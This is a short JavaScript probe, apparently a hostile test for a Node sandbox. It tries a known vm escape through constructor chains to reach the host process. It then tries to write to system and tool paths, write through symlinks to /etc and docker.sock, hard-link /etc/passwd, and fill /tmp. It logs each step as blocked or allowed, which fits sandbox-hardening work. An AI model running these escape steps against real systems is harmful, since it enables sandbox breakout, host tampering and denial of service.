// With the host process (if reachable): read-only paths, symlinks to host-looking paths, /tmp filled up.
let P = null;
// The vectors of vm-escape-process.js: the global object's inherited constructor, a provided function's prototype.
for (const get of [() => this.constructor.constructor('return process')(), () => Object.getPrototypeOf(input.prototype).constructor.constructor('return process')()]) {
  try { P = get(); } catch (e) { P = null; }
  if (P && typeof P.pid === 'number') break;
  P = null;
}
if (!P) {
  console.log('blocked: no process');
} else {
  const fs = P.getBuiltinModule('fs');
  const { Buffer } = P.getBuiltinModule('buffer');
  for (const path of ['/tchostile', '/etc/tchostile', '/opt/tracecast/tracer.mjs', '/opt/tracecast/tchostile', '/usr/lib/tchostile']) {
    try { fs.writeFileSync(path, 'tchostile'); console.log('WROTE', path); } catch (e) { console.log('refused', path, e.code); }
  }
  for (const [name, target] of [['docker', '/var/run/docker.sock'], ['etc', '/etc'], ['work', '/work/main']]) {
    fs.symlinkSync(target, '/tmp/tchostile-' + name);
    try { fs.writeFileSync('/tmp/tchostile-' + name + '/tchostile', 'x'); console.log('WROTE through', name); } catch (e) { console.log('refused through', name, e.code); }
  }
  try { fs.linkSync('/etc/passwd', '/tmp/tchostile-hard'); console.log('HARDLINKED'); } catch (e) { console.log('hard link refused', e.code); }
  const mb = Buffer.alloc(1 << 20, 1);
  let n = 0;
  try { for (;;) { fs.appendFileSync('/tmp/tchostile-fill', mb); n++; } } catch (e) { console.log('tmp full after', n, 'MiB:', e.code); }
}
